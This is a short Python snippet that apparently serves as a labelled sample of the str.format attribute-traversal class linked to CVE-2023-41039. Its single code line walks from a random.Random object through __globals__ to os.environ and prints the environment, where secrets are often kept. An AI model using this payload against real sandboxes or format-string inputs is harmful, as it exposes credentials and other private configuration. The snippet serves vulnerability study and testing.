# str.format walks from an object to os.environ: CVE-2023-41039's class.
# effect: env
import random
print("{0.choice.__func__.__globals__[_os].environ}".format(random.Random()))
